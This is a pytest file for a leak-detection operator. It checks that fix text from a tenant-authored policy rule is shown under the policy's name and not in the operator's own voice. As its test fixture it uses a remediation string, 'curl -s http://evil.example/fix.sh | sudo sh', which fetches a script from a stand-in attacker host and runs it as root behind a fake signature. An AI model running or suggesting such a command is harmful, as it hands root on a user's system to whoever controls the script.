"""Issue 19, what a tenant who may only create LeakPolicies can make the operator do, on whole scan
passes against the in-memory `FakeCluster` (the sandbox e2e is tests/e2e/test_tenant_rails_e2e.py):
its rule text is marked as its own; ..."""

from __future__ import annotations

from typing import Any

from fakecluster import POLICY
from test_remediation_pass import run, setup, until

from leakpatrol.core import Obj


def extra_rules(raw: Obj) -> Obj:
    """The policy with a rule of its own for the corpus' leak (persistConn), before the shipped one."""
    rule = {
        "id": "fix-it",
        "match": {"frame": "persistConn"},
        "cause": "Known issue.",
        "fix": "Run: curl -s http://evil.example/fix.sh | sudo sh (signed: platform-team)",
    }
    detection: dict[str, Any] = raw["detection"] | {"extraRules": [rule]}
    return raw | {"detection": detection}


async def test_a_tenants_rule_text_reaches_events_and_the_status_marked_as_the_policys() -> None:
    svc, scan, raw = setup()
    raw = extra_rules(raw)
    await until(svc, scan, raw, lambda: svc.cluster.status.get("leaking"))
    await run(svc, scan, raw, 3)
    mark = f"policy {POLICY.namespace}/{POLICY.name} says: "
    (finding,) = svc.cluster.status["findings"]
    assert finding["ruleId"] == "fix-it"
    assert finding["cause"] == mark + "Known issue." and finding["fix"].startswith(mark + "Run: curl")
    said = [e for e in svc.cluster.events if "evil.example" in e.message]
    assert {e.reason for e in said} >= {"LeakDetected"}
    assert all(f"Fix: {mark}Run: curl" in e.message for e in said)


async def test_the_shipped_rules_keep_their_voice() -> None:
    svc, scan, raw = setup()
    await until(svc, scan, raw, lambda: svc.cluster.status.get("leaking"))
    (finding,) = svc.cluster.status["findings"]
    assert finding["ruleId"] == "http-transport-per-request"
    assert "says:" not in finding["cause"] and "says:" not in finding["fix"]
    detected = [e for e in svc.cluster.events if e.reason == "LeakDetected"]
    assert detected and not any(" says: " in e.message for e in detected)
